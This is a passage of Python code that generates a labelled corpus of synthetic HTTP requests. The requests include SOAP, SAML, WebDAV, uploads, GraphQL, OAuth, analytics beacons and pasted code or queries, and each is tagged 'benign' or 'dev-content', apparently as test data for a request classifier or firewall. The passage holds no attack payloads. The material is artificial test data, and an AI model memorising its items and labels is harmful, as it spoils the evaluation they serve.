                'xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2" '
                'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" '
                'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                'xsi:schemaLocation="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 UBL-Invoice-2.1.xsd">'
                '<cbc:ID>RE-2024-%05d</cbc:ID><cbc:IssueDate>2024-05-%02d</cbc:IssueDate>'
                '<cac:AccountingSupplierParty><cac:Party><cac:PartyName><cbc:Name>Müller &amp; Söhne GmbH</cbc:Name></cac:PartyName></cac:Party></cac:AccountingSupplierParty>'
                '<cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="EUR">%d.%02d</cbc:PayableAmount></cac:LegalMonetaryTotal></Invoice>'
                % (R.randint(1, 99999), R.randint(1, 28), R.randint(10, 9999), R.randint(0, 99)))
        c.add("xml-ubl-invoice", "benign", "POST", "/einvoice/inbound", api_client(), body, "application/xml; charset=utf-8", host="billing.example.com")
    elif k == 1:
        fn, ln = pick(NAMES)
        body = ('<?xml version="1.0" encoding="utf-8"?>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" '
                'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
                'xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" '
                'xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">'
                '<soap:Header><wsse:Security soap:mustUnderstand="1"><wsu:Timestamp wsu:Id="TS-%s"><wsu:Created>%s</wsu:Created></wsu:Timestamp>'
                '<wsse:UsernameToken><wsse:Username>svc-crm</wsse:Username><wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">%s</wsse:Password>'
                '<wsse:Nonce>%s</wsse:Nonce></wsse:UsernameToken></wsse:Security></soap:Header>'
                '<soap:Body><UpdateCustomer xmlns="urn:example:crm"><Customer xsi:type="PrivateCustomer"><FirstName>%s</FirstName>'
                '<LastName>%s</LastName><Note xsi:nil="true"/></Customer></UpdateCustomer></soap:Body></soap:Envelope>'
                % (hexid(8), ts_iso(), b64(R.randbytes(20)), b64(R.randbytes(16)), xml_text(fn), xml_text(ln)))
        c.add("soap-wsse", "benign", "POST", "/services/CustomerService", [["SOAPAction", '"urn:example:crm/UpdateCustomer"']],
              body, "text/xml; charset=utf-8", host="intranet.example.org", ua="Apache-CXF/3.5.8")
    elif k == 2:
        req = ('<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" '
               'ID="_%s" Version="2.0" IssueInstant="%s" Destination="https://idp.example.org/sso" '
               'AssertionConsumerServiceURL="https://app.example.com/saml/acs"><saml:Issuer>https://app.example.com</saml:Issuer>'
               '<samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>'
               % (hexid(40), ts_iso()))
        body = form([("SAMLRequest", b64(req)), ("RelayState", "/projects?tab=%s" % pick(["active", "archived"]))])
        c.add("saml-post-binding", "benign", "POST", "/sso", browser(), body, "application/x-www-form-urlencoded", host="idp.example.org")
    elif k == 3:
        body = ('<?xml version="1.0" encoding="utf-8"?>\n<D:propfind xmlns:D="DAV:" xmlns:oc="http://owncloud.org/ns" xmlns:nc="http://nextcloud.org/ns">'
                '<D:prop><D:getlastmodified/><D:getcontentlength/><D:resourcetype/><oc:fileid/><oc:permissions/><nc:has-preview/></D:prop></D:propfind>')
        c.add("webdav-propfind", "benign", "PROPFIND", "/remote.php/dav/files/ana/%s/" % pct("Fotos 2024/Lisboa", safe="/"),
              [["Depth", "1"], ["Authorization", "Basic " + b64("ana:" + alnum(29))], ["User-Agent", "Mozilla/5.0 (Windows) mirall/3.12.3 (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)"]],
              body, "application/xml; charset=utf-8", host="cloud.example.net")
    else:
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<entry xmlns="http://www.w3.org/2005/Atom" xmlns:app="http://www.w3.org/2007/app">'
                '<title type="text">%s</title><updated>%s</updated><author><name>%s</name></author>'
                '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>%s</p></div></content>'
                '<app:control><app:draft>yes</app:draft></app:control></entry>'
                % (xml_text(pick(["Neues aus dem Team", "Notes de version 4.2", "Release notes"])), ts_iso(), xml_text(" ".join(pick(NAMES))), xml_text(pick(TEXTS))))
        c.add("atompub-entry", "benign", "POST", "/blog/atom/entries", api_client(), body, "application/atom+xml;type=entry", host="cms.example.org")


def b_multipart(c):
    fname = pick(["Präsentation Q2.pptx", "報告書_2024年5月.pdf", "résumé – Zoë Müller.docx", "фото_паспорта.jpg", "سند.pdf",
                  "Screenshot 2024-05-20 at 10.15.33.png", "IMG_%04d.HEIC" % R.randint(1, 9999), "budget (final) v3 [ok].xlsx"])
    ctypes = {"pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation", "pdf": "application/pdf",
              "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "jpg": "image/jpeg", "png": "image/png",
              "HEIC": "image/heic", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
    ct = ctypes[fname.rsplit(".", 1)[1]]
    style = R.randint(0, 2)
    parts = [{"name": "_token", "value": alnum(40)}]
    if style == 0:
        parts.append({"name": "file", "filename": fname, "ctype": ct, "value": "PK\x03\x04" + alnum(80)})
    elif style == 1:
        parts.append({"name": "file", "cd": "form-data; name=\"file\"; filename=\"%s\"; filename*=UTF-8''%s" % (
            fname.encode("ascii", "replace").decode().replace("?", "_"), pct(fname)), "ctype": ct, "value": alnum(120)})
    else:
        parts.append({"name": "metadata", "ctype": "application/json; charset=UTF-8",
                      "value": jdump({"name": fname, "parents": [alnum(33)], "description": pick(TEXTS), "appProperties": {"x-source": "web-uploader"}})})
        parts.append({"name": "file", "filename": fname, "ctype": ct, "value": b64(R.randbytes(90)),
                      "extra": [("Content-Transfer-Encoding", "base64")]})
    parts.append({"name": "folder[path][]", "value": pick(["Projekte", "Clients/Ünal GmbH", "共有"])})
    parts.append({"name": "comment", "value": pick(TEXTS)})
    body, ctype = multipart(parts, boundary=pick([None, "----geckoformboundary%s" % hexid(32), "Boundary-%s" % fuuid().upper()]))
    c.add("multipart-upload", "benign", "POST", pick(["/files/upload", "/api/v1/attachments", "/upload/drive/v3/files?uploadType=multipart"]),
          browser(fetch="cors"), body, ctype, host=pick(HOSTS))



# --- benign templates: apps, forms, APIs ------------------------------------------

def b_mobile(c):
    android = R.random() < 0.5
    hs = [["User-Agent", "ShopApp/5.12.%d (%s)" % (R.randint(0, 4), "Android 14; Pixel 8; Build/AP1A.240505.004" if android else "iPhone15,3; iOS 17.4.1; Scale/3.00")],
          ["Accept", "application/json"], ["Accept-Language", pick(ACCEPT_LANGS)],
          ["X-Device-Id", fuuid().upper() if not android else hexid(16)], ["X-App-Version", "5.12.%d (%d)" % (R.randint(0, 4), R.randint(5000, 5999))],
          ["X-Platform", "android" if android else "ios"], ["X-Timezone", pick(["Europe/Berlin", "America/Sao_Paulo", "Asia/Tokyo", "America/Argentina/Buenos_Aires", "Etc/GMT+3"])],
          ["X-Locale", pick(["de_DE", "pt_BR", "ja_JP", "sr_Latn_RS", "zh_Hant_TW"])], ["X-Client-Version", "web-2024.05.%d+%s" % (R.randint(1, 30), hexid(7))],
          ["X-Api-Version", pick(["2024-04-01", "v2", "2.3"])], ["X-Tenant-ID", pick(["acme-eu", "t_%s" % alnum(10), "globex.de"])],
          ["Authorization", "Bearer " + jwt_like({"sub": str(R.randint(10**5, 10**6)), "device": hexid(8), "scope": ["cart:write", "orders:read"], "exp": 1716300000})]]
    hs += trace_headers(["amzn"] if R.random() < 0.5 else ["w3c"])
    if R.random() < 0.5:
        body = jdump({"device": {"model": pick(["Pixel 8", "iPhone15,3", "SM-S918B"]), "os": "Android 14" if android else "iOS 17.4.1",
                                 "pushToken": alnum(22) + ":" + alnum(140), "idfv": fuuid().upper()},
                      "locale": "de-AT", "consent": {"analytics": True, "ads": False, "tcString": "CP" + alnum(60)}})
        c.add("mobile-register", "benign", "POST", "/api/mobile/v2/devices", hs, body, "application/json; charset=UTF-8", host="api.example.com")
    else:
        c.add("mobile-feed", "benign", "GET", "/api/mobile/v2/feed?since=%s&limit=30&fields=id,title,media.thumb" % pct(ts_iso()), hs,
              host="api.example.com")


def b_forms(c):
    fn, ln = pick(NAMES)
    k = R.randint(0, 3)
    if k == 0:
        body = form([("name", "%s %s" % (fn, ln)), ("email", "%s.%s@example.com" % (alnum(4).lower(), alnum(5).lower())),
                     ("subject", pick(["Frage zur Bestellung", "Problème de livraison", "Billing question", "お問い合わせ"])),
                     ("message", pick(TEXTS) + "\r\n\r\n" + pick(TEXTS)), ("consent", "on"), ("g-recaptcha-response", alnum(200))])
        c.add("contact-form", "benign", "POST", "/contact", browser(), body, "application/x-www-form-urlencoded", host="www.example.com")
    elif k == 1:
        body = form([("authenticity_token", b64(R.randbytes(48))), ("user[first_name]", fn), ("user[last_name]", ln),
                     ("user[address_attributes][street]", pick(["Hauptstraße 12a", "Rue de l'Église 3", "Calle Mayor, 7 - 2º B", "ul. Długa 44/46"])),
                     ("user[address_attributes][city]", pick(CITIES)), ("user[phone]", "+49 (0)30 901820"), ("commit", "Speichern")], brackets=R.random() < 0.5)
        c.add("rails-nested-form", "benign", "POST", "/account/profile", browser(), body, "application/x-www-form-urlencoded", host="accounts.example.com")
    elif k == 2:
        body = form([("_method", pick(["PUT", "PATCH", "DELETE"])), ("_token", alnum(40)), ("title", pick(["Einkaufsliste", "Q2 OKRs", "Notes – réunion"])),
                     ("body", pick(TEXTS))])
        c.add("method-override-field", "benign", "POST", "/notes/%d" % R.randint(1, 9999), browser(), body, "application/x-www-form-urlencoded",
              host="app.example.com")
    else:
        body = form([("cart[items][0][sku]", "SKU-%d" % R.randint(100, 999)), ("cart[items][0][qty]", str(R.randint(1, 5))),
                     ("cart[items][1][sku]", "SKU-%d" % R.randint(100, 999)), ("cart[items][1][qty]", "1"),
                     ("coupon", pick(["SPRING-30", "WELCOME10", ""])), ("gift_message", pick(TEXTS)), ("shipping[method]", "express")])
        hs = browser() + [["X-Requested-With", "XMLHttpRequest"], ["X-CSRF-Token", b64(R.randbytes(32))]]
        c.add("cart-update", "benign", "POST", "/cart/update.js", hs, body, "application/x-www-form-urlencoded; charset=UTF-8", host="shop.example.com")


def b_graphql(c):
    k = R.randint(0, 2)
    hs = api_client() + [["apollographql-client-name", pick(["web", "ios", "android"])], ["apollographql-client-version", "2024.05.%d" % R.randint(1, 30)]]
    if k == 0:
        body = jdump({"operationName": "ProductPage", "variables": {"slug": pick(["kaffeem%C3%BChle", "robe-d-ete", "ear-buds-pro"]), "locale": "de-DE", "first": 12,
                                                                     "after": b64("arrayconnection:%d" % R.randint(0, 100))},
                      "query": "query ProductPage($slug: String!, $locale: Locale, $first: Int, $after: String) { product(slug: $slug, locale: $locale) { id name price { amount currency } reviews(first: $first, after: $after) { edges { node { id rating body } } pageInfo { hasNextPage endCursor } } } }"})
        c.add("graphql-query", "benign", "POST", "/graphql", hs, body, "application/json", host="api.example.com")
    elif k == 1:
        ext = jdump({"persistedQuery": {"version": 1, "sha256Hash": hexid(64)}})
        var = jdump({"id": "gid://shop/Order/%d" % R.randint(10**9, 10**10), "withLines": True})
        c.add("graphql-persisted-get", "benign", "GET", "/graphql?operationName=OrderDetails&variables=%s&extensions=%s" % (pct(var), pct(ext)), hs,
              host="api.example.com")
    else:
        fn, ln = pick(NAMES)
        body = jdump({"operationName": "UpdateAddress", "variables": {"input": {"firstName": fn, "lastName": ln, "company": "O'Hara & Partners",
                                                                                 "address1": "Hauptstraße 5", "city": pick(CITIES), "zip": "80331"}},
                      "query": "mutation UpdateAddress($input: AddressInput!) { customerAddressUpdate(input: $input) { address { id } userErrors { field message } } }"})
        c.add("graphql-mutation", "benign", "POST", "/api/graphql", hs, body, "application/json", host="shop.example.com")


def b_jsonrpc(c):
    k = R.randint(0, 2)
    if k == 0:
        body = jdump({"jsonrpc": "2.0", "id": R.randint(1, 99), "method": "eth_call",
                      "params": [{"to": "0x" + hexid(40), "data": "0x70a08231000000000000000000000000" + hexid(40)}, "latest"]})
    elif k == 1:
        body = jdump([{"jsonrpc": "2.0", "id": 1, "method": "calendar.list", "params": {"from": "2024-05-20", "to": "2024-05-26", "tz": "Europe/Lisbon"}},
                      {"jsonrpc": "2.0", "id": 2, "method": "user.prefs.get", "params": ["notifications.email", "ui.theme"]}])
    else:
        body = jdump({"jsonrpc": "2.0", "id": fuuid(), "method": "tickets.comment.add",
                      "params": {"ticket": "SUP-%d" % R.randint(100, 9999), "body": pick(TEXTS), "visibility": "public"}})
    c.add("jsonrpc", "benign", "POST", pick(["/rpc", "/api/jsonrpc", "/v1/mainnet"]), api_client(), body, "application/json", host=pick(HOSTS))


def b_oauth(c):
    k = R.randint(0, 2)
    if k == 0:
        body = form([("grant_type", "authorization_code"), ("code", alnum(43)), ("redirect_uri", "https://app.example.com/auth/callback?provider=example"),
                     ("code_verifier", alnum(64)), ("client_id", alnum(32))])
        c.add("oauth-token-code", "benign", "POST", "/oauth/token", [["User-Agent", pick(UA_TOOLS)], ["Accept", "application/json"],
                                                                    ["Authorization", "Basic " + b64("%s:%s" % (alnum(32), alnum(48)))]],
              body, "application/x-www-form-urlencoded", host="auth.example.com")
    elif k == 1:
        q = "response_type=code&client_id=%s&redirect_uri=%s&scope=%s&state=%s&nonce=%s&code_challenge=%s&code_challenge_method=S256&ui_locales=%s&prompt=select_account" % (
            alnum(24), pct("https://app.example.com/callback"), pct("openid profile email offline_access https://api.example.com/orders.read"),
            b64u(jdump({"returnTo": "/dashboard?tab=billing", "csrf": alnum(16)})), alnum(22), b64u(R.randbytes(32)), pct("de-DE fr"))
        c.add("oidc-authorize", "benign", "GET", "/authorize?" + q, browser(), host="auth.example.com")
    else:
        c.add("oidc-userinfo", "benign", "GET", "/userinfo", api_client(), host="auth.example.com")


def b_beacons(c):
    k = R.randint(0, 2)
    if k == 0:
        q = ("v=2&tid=G-%s&gtm=45je45f0&_p=%d&gcd=13l3l3l3l1&npa=0&dma=0&cid=%d.%d&ul=de-de&sr=1920x1080&uaa=x86&uab=64&uafvl=%s"
             "&_s=%d&sid=%d&sct=%d&seg=1&dl=%s&dr=%s&dt=%s&en=page_view&ep.content_group=%s&up.plan=pro&epn.value=%d&_et=%d&tfd=%d"
             % (alnum(10).upper(), R.randint(10**9, 10**10), R.randint(10**8, 10**10), R.randint(1700000000, 1716500000),
                pct("Chromium;124.0.6367.119|Google%20Chrome;124.0.6367.119"), R.randint(1, 9), R.randint(1700000000, 1716500000), R.randint(1, 40),
                pct("https://shop.example.com/de/k%C3%BCche?utm_source=newsletter"), pct(pick(REFERERS)), pct("Küche & Haushalt | Example Shop"),
                pct("category/küche"), R.randint(1, 500), R.randint(1, 9000), R.randint(100, 9000)))
        c.add("ga4-collect", "benign", "POST", "/g/collect?" + q, [["User-Agent", pick(UA_BROWSERS)], ["Origin", "https://shop.example.com"],
                                                                  ["Sec-Fetch-Mode", "no-cors"]], "", "text/plain;charset=UTF-8", host="analytics.example.net")
    elif k == 1:
        body = jdump({"events": [{"type": "web-vital", "name": pick(["LCP", "INP", "CLS"]), "value": round(R.random() * 3000, 1), "rating": "good",
                                  "attribution": {"element": "main > div.hero > img", "url": "https://cdn.example.net/hero.avif", "loadState": "complete"},
                                  "navigationType": "navigate", "id": "v3-%d-%d" % (R.randint(10**12, 10**13), R.randint(10**12, 10**13))}],
                      "page": "/de/produkte", "connection": "4g"})
        c.add("rum-beacon", "benign", "POST", "/rum/v1/beacon", [["User-Agent", pick(UA_BROWSERS)], ["Origin", "https://shop.example.com"]],
              body, "text/plain;charset=UTF-8", host="rum.example.com")
    else:
        hs = browser(fetch="cors") + [["Ping-From", "https://news.example.net/article/%d" % R.randint(1, 9999)], ["Ping-To", "https://shop.example.com/p/%d" % R.randint(1, 999)]]
        c.add("hyperlink-ping", "benign", "POST", "/track/click?cid=%s&pos=%d" % (alnum(12), R.randint(1, 12)), hs, "PING", "text/ping", host="analytics.example.net")


def b_prefer_link(c):
    k = R.randint(0, 2)
    if k == 0:
        hs = api_client() + [["Prefer", "count=exact"], ["Range-Unit", "items"], ["Range", "0-24"], ["Accept-Profile", "api"]]
        c.add("postgrest-select", "benign", "GET", "/rest/v1/orders?select=id,total,customer:customers(name,email)&status=eq.paid&created_at=gte.2024-05-01&order=created_at.desc&limit=25",
              hs, host="db.example.com")
    elif k == 1:
        body = jdump({"title": "Sprint %d" % R.randint(1, 60), "due": "2024-06-%02d" % R.randint(1, 30)})
        hs = api_client() + [["Prefer", pick(["return=minimal", "respond-async, wait=10", "handling=lenient, return=representation", "odata.maxpagesize=50"])],
                             ["Link", '<https://api.example.com/schemas/milestone.json>; rel="describedby"; type="application/schema+json"'],
                             ["Idempotency-Key", fuuid()]]
        c.add("prefer-link-post", "benign", "POST", "/api/v3/milestones", hs, body, "application/json", host="api.example.com")
    else:
        hs = api_client() + [["Link", '<https://api.example.com/v1/users/%d>; rel="author", <https://api.example.com/v1/tags/%d>; rel="tag"' % (R.randint(1, 99), R.randint(1, 99))],
                             ["X-HTTP-Method-Override", "PATCH"]]
        body = jdump({"status": "published", "labels": ["release-notes", "de", "v4.2"]})
        c.add("method-override-header", "benign", "POST", "/api/v1/posts/%d" % R.randint(1, 9999), hs, body, "application/json", host="cms.example.org")


def b_fragment_client(c):
    c.add("fragment-sent-by-client", "benign", "GET", pick(["/docs/getting-started#installation", "/help/faq#versand-und-lieferung",
                                                           "/changelog#v4.2.0", "/wiki/Main_Page#%E6%A6%82%E8%A6%81", "/app#/inbox?folder=starred"]),
          [["User-Agent", pick(["Java/1.8.0_292", "Python-urllib/3.8", "libwww-perl/6.67", "Wget/1.21.4"])], ["Accept", "*/*"]],
          host=pick(HOSTS))


def b_basic_and_headers(c):
    k = R.randint(0, 2)
    if k == 0:
        user = pick(["jürgen.weiß", "ana.silva@example.com", "svc-backup", "o.brien", "DOMAIN\\jdoe"])
        c.add("basic-auth-dav", "benign", "GET", "/dav/calendars/%s/personal/" % pct(user.split("@")[0]),
              [["Authorization", "Basic " + b64("%s:%s" % (user, alnum(20)))], ["User-Agent", "DAVx5/4.3.16-ose (2024/05/06; dav4jvm; okhttp/4.12.0) Android/14"],
               ["Depth", "0"], ["Accept", "text/calendar"]], host="cloud.example.net")
    elif k == 1:
        princ = {"auth_typ": "aad", "claims": [{"typ": "name", "val": " ".join(pick(NAMES))}, {"typ": "preferred_username", "val": "user@example.onmicrosoft.example.com"},
                                               {"typ": "roles", "val": "Reader"}], "name_typ": "name", "role_typ": "roles"}
        c.add("azure-easyauth-principal", "benign", "GET", "/api/reports?year=2024",
              [["X-MS-CLIENT-PRINCIPAL", b64(jdump(princ))], ["X-MS-CLIENT-PRINCIPAL-NAME", "user@example.com"], ["X-MS-CLIENT-PRINCIPAL-IDP", "aad"],
               ["X-ARR-SSL", "2048|256|CN=Example TLS CA, O=Example|CN=*.example.com"], ["X-Original-URL", "/api/reports?year=2024"],
               ["X-WAWS-Unencoded-URL", "/api/reports?year=2024"], ["Client-IP", doc_ip() + ":53112"]] + trace_headers(["reqid"]), host="portal.example.net")
    else:
        c.add("proxy-identity-headers", "benign", "GET", "/internal/dashboard",
              [["X-Auth-Request-Email", "%s@example.com" % alnum(6).lower()], ["X-Auth-Request-User", alnum(8).lower()],
               ["X-Auth-Request-Groups", "role:admin,team:platform,github:example-org/sre"], ["X-Forwarded-Prefix", "/grafana"],
               ["X-Forwarded-Host", "ops.example.com"], ["Via", "1.1 varnish (Varnish/7.4), 1.1 %s.cloudfront.example.net (CloudFront)" % alnum(16).lower()],
               ["From", "bot-admin@example.com"], ["Content-Language", "de-AT, en"]] + browser(cookies=True, ref=False), host="ops.example.com")


# --- dev-content: user content that legitimately is code, SQL, shell, markup or queries --

SNIPPETS = [
    ("python", "import pandas as pd\n\ndf = pd.read_csv('sales.csv', parse_dates=['date'])\nmonthly = df.groupby(df['date'].dt.to_period('M'))['amount'].sum()\nprint(monthly.tail(12))\n"),
    ("sql", "SELECT c.id, c.name, COUNT(o.id) AS orders, SUM(o.total) AS revenue\nFROM customers c\nLEFT JOIN orders o ON o.customer_id = c.id AND o.status <> 'cancelled'\nWHERE c.created_at >= DATE '2024-01-01'\nGROUP BY c.id, c.name\nHAVING COUNT(o.id) > 3\nORDER BY revenue DESC\nLIMIT 50;"),
    ("sql", "-- migration 0042: add soft delete\nALTER TABLE invoices ADD COLUMN deleted_at timestamptz NULL;\nCREATE INDEX CONCURRENTLY idx_invoices_deleted_at ON invoices (deleted_at) WHERE deleted_at IS NULL;\nUPDATE invoices SET deleted_at = now() WHERE status = 'void';"),
    ("bash", "#!/usr/bin/env bash\nset -euo pipefail\nfor f in logs/*.gz; do\n  zcat \"$f\" | grep -c ' 500 ' || true\ndone | awk '{s+=$1} END {print s}'\n"),
    ("javascript", "const res = await fetch(`/api/v1/orders?page=${page}`, { headers: { 'Accept': 'application/json' } });\nif (!res.ok) throw new Error(`HTTP ${res.status}`);\nconst { data } = await res.json();\ndocument.querySelector('#count').textContent = data.length;\n"),
    ("php", "<?php\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = :email');\n$stmt->execute(['email' => $_POST['email']]);\n$user = $stmt->fetch();\necho htmlspecialchars($user['name'], ENT_QUOTES, 'UTF-8');\n"),
    ("java", "@GetMapping(\"/orders/{id}\")\npublic ResponseEntity<OrderDto> get(@PathVariable long id) {\n    return repo.findById(id).map(mapper::toDto).map(ResponseEntity::ok)\n               .orElseGet(() -> ResponseEntity.notFound().build());\n}\n"),
    ("go", "func handler(w http.ResponseWriter, r *http.Request) {\n\tid := r.URL.Query().Get(\"id\")\n\trow := db.QueryRowContext(r.Context(), \"SELECT name FROM items WHERE id = $1\", id)\n\tvar name string\n\tif err := row.Scan(&name); err != nil {\n\t\thttp.Error(w, err.Error(), 500)\n\t\treturn\n\t}\n\tfmt.Fprintf(w, \"%s\\n\", name)\n}\n"),
    ("dockerfile", "FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt && rm -rf /root/.cache\nCOPY . .\nCMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"app:create_app()\"]\n"),
    ("nginx", "location /api/ {\n    proxy_pass http://upstream_api;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    if ($request_method = OPTIONS) { return 204; }\n}\n"),
    ("html", "<!doctype html>\n<html lang=\"de\">\n<head><meta charset=\"utf-8\"><title>Demo</title>\n<script src=\"/static/app.js\" defer></script></head>\n<body onload=\"init()\"><div id=\"app\"></div></body>\n</html>\n"),
    ("yaml", "deploy:\n  stage: deploy\n  image: alpine:3.19\n  script:\n    - apk add --no-cache curl\n    - ./scripts/deploy.sh \"$CI_COMMIT_SHA\"\n  rules:\n    - if: '$CI_COMMIT_BRANCH == \"main\"'\n"),
    ("terraform", "resource \"aws_s3_bucket_policy\" \"logs\" {\n  bucket = aws_s3_bucket.logs.id\n  policy = jsonencode({\n    Version = \"2012-10-17\"\n    Statement = [{ Effect = \"Deny\", Principal = \"*\", Action = \"s3:*\", Resource = \"${aws_s3_bucket.logs.arn}/*\",\n      Condition = { Bool = { \"aws:SecureTransport\" = \"false\" } } }]\n  })\n}\n"),
    ("rust", "fn main() -> Result<(), Box<dyn std::error::Error>> {\n    let body = std::fs::read_to_string(\"/etc/hostname\")?;\n    println!(\"host = {}\", body.trim());\n    Ok(())\n}\n"),
    ("powershell", "Get-ChildItem -Path C:\\Logs -Filter *.log -Recurse |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |\n  Remove-Item -WhatIf\n"),
    ("jinja", "{% extends \"base.html\" %}\n{% block content %}\n  <h1>{{ page.title | e }}</h1>\n  {% for post in posts %}<li><a href=\"{{ url_for('post', id=post.id) }}\">{{ post.title }}</a></li>{% endfor %}\n{% endblock %}\n"),
    ("ruby", "class Order < ApplicationRecord\n  scope :recent, -> { where('created_at > ?', 7.days.ago).order(created_at: :desc) }\n  def total = line_items.sum { |li| li.price * li.qty }\nend\n"),
    ("c", "#include <stdio.h>\nint main(int argc, char **argv) {\n    if (argc < 2) { fprintf(stderr, \"usage: %s file\\n\", argv[0]); return 1; }\n    FILE *f = fopen(argv[1], \"r\");\n    return f ? 0 : 2;\n}\n"),
]

STACK_TRACE = ("java.lang.NullPointerException: Cannot invoke \"com.example.shop.Cart.getItems()\" because \"cart\" is null | "
               "at com.example.shop.CheckoutService.total(CheckoutService.java:88) | at com.example.shop.CheckoutController.summary(CheckoutController.java:41) | "
               "at java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)")
PY_TRACE = ("Traceback (most recent call last): File \"/app/api/views.py\", line 57, in export | rows = db.execute(\"SELECT * FROM report WHERE month = %s\", (m,)) | "
            "psycopg2.errors.UndefinedColumn: column \"month\" does not exist")


def d_paste(c):
    lang, code = pick(SNIPPETS)
    body = jdump({"title": pick(["snippet", "repro for #%d" % R.randint(100, 9999), "Beispiel", "例"]), "language": lang, "visibility": "unlisted",
                  "content": code, "expires_in": pick(["1d", "1w", "never"])})
    c.add("paste-" + lang, "dev-content", "POST", "/api/v1/pastes", api_client(), body, "application/json", host="paste.example.org")


def d_issue_comment(c):
    lang, code = pick(SNIPPETS)
    text = "%s\n\nSteps to reproduce:\n\n```%s\n%s```\n\nError:\n\n```\n%s\n```\n" % (
        pick(["Seeing this after upgrading to 4.2:", "Nach dem Update tritt folgender Fehler auf:", "Reproduced on staging, see below."]),
        lang, code, pick([STACK_TRACE, PY_TRACE]).replace(" | ", "\n    "))
    k = R.randint(0, 1)
    if k == 0:
        c.add("issue-comment-markdown", "dev-content", "POST", "/api/v4/projects/%d/issues/%d/notes" % (R.randint(1, 999), R.randint(1, 5000)),
              api_client() + [["PRIVATE-TOKEN", "glpat-" + alnum(20)]], jdump({"body": text}), "application/json", host="git.example.com")
    else:
        c.add("forum-post-form", "dev-content", "POST", "/t/%d/reply" % R.randint(1000, 99999), browser(),
              form([("authenticity_token", b64(R.randbytes(32))), ("raw", text), ("topic_id", str(R.randint(1000, 99999)))]),
              "application/x-www-form-urlencoded", host="forum.example.net")


def d_sql_console(c):
    q = pick([s for l, s in SNIPPETS if l == "sql"] + [
        "SELECT date_trunc('week', created_at) AS wk, count(*) FILTER (WHERE status = 'refunded') AS refunds\nFROM payments\nWHERE created_at BETWEEN {{start}} AND {{end}}\nGROUP BY 1 ORDER BY 1;",
        "SELECT name FROM products WHERE name ILIKE '%O''Reilly%' UNION ALL SELECT title FROM books WHERE publisher = 'O''Reilly';",
        "WITH t AS (SELECT user_id, min(ts) first_seen FROM events GROUP BY 1) SELECT count(*) FROM t WHERE first_seen > now() - interval '30 days';",
    ])
    body = jdump({"database": R.randint(1, 9), "type": "native", "native": {"query": q, "template-tags": {}}, "parameters": []})
    c.add("sql-console-native", "dev-content", "POST", "/api/dataset", browser(fetch="cors"), body, "application/json", host="bi.example.com")


def d_observability_query(c):
    k = R.randint(0, 4)
    if k == 0:
        q = pick(['status:500 AND url.path:"/api/*" AND NOT user_agent.name:"Uptime*"', 'service.name:checkout and (log.level:error or http.response.status_code >= 500)'])
        c.add("kql-search", "dev-content", "GET", "/app/discover?_a=%s&query=%s" % (pct("(columns:!(message),sort:!(!('@timestamp',desc)))"), pct(q)), browser(), host="kibana.example.com")
    elif k == 1:
        q = pick(['sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (route) / sum(rate(http_requests_total{job="api"}[5m])) by (route)',
                  'histogram_quantile(0.99, sum by (le) (rate(http_request_duration_seconds_bucket{namespace="prod"}[10m])))'])
        c.add("promql-query", "dev-content", "GET", "/api/v1/query_range?query=%s&start=1716200000&end=1716203600&step=15" % pct(q),
              api_client(token=False) + [["X-Grafana-Org-Id", "1"]], host="prometheus.example.com")
    elif k == 2:
        q = '{app="nginx", env="prod"} |= "error" | json | status >= 500 | line_format "{{.method}} {{.path}} -> {{.status}}"'
        c.add("logql-query", "dev-content", "GET", "/loki/api/v1/query_range?query=%s&limit=100&direction=backward" % pct(q),
              api_client(token=False) + [["X-Scope-OrgID", "tenant-a"]], host="logs.example.com")
    elif k == 3:
        body = form([("search", "search index=web sourcetype=access_combined status>=500 | rex field=uri \"^/api/(?<endpoint>[^/?]+)\" | stats count by endpoint | sort -count"),
                     ("earliest_time", "-24h@h"), ("latest_time", "now"), ("output_mode", "json")])
        c.add("splunk-spl-search", "dev-content", "POST", "/services/search/jobs", [["Authorization", "Splunk " + fuuid()], ["User-Agent", "splunk-sdk-python/2.0.1"]],
              body, "application/x-www-form-urlencoded", host="splunk.example.com")
    else:
        f = pick(["Name eq 'O''Neil' and Price lt 20.5 and contains(Category,'Books')", "startswith(LastName,'Mü') or year(BirthDate) eq 1990"])
        c.add("odata-filter", "dev-content", "GET", "/odata/v4/Customers?$filter=" + pct(f) + "&$select=Name,Email&$orderby=Name%20desc&$top=50",
              api_client(), host="erp.example.com")


def d_templates(c):
    tpl = pick([
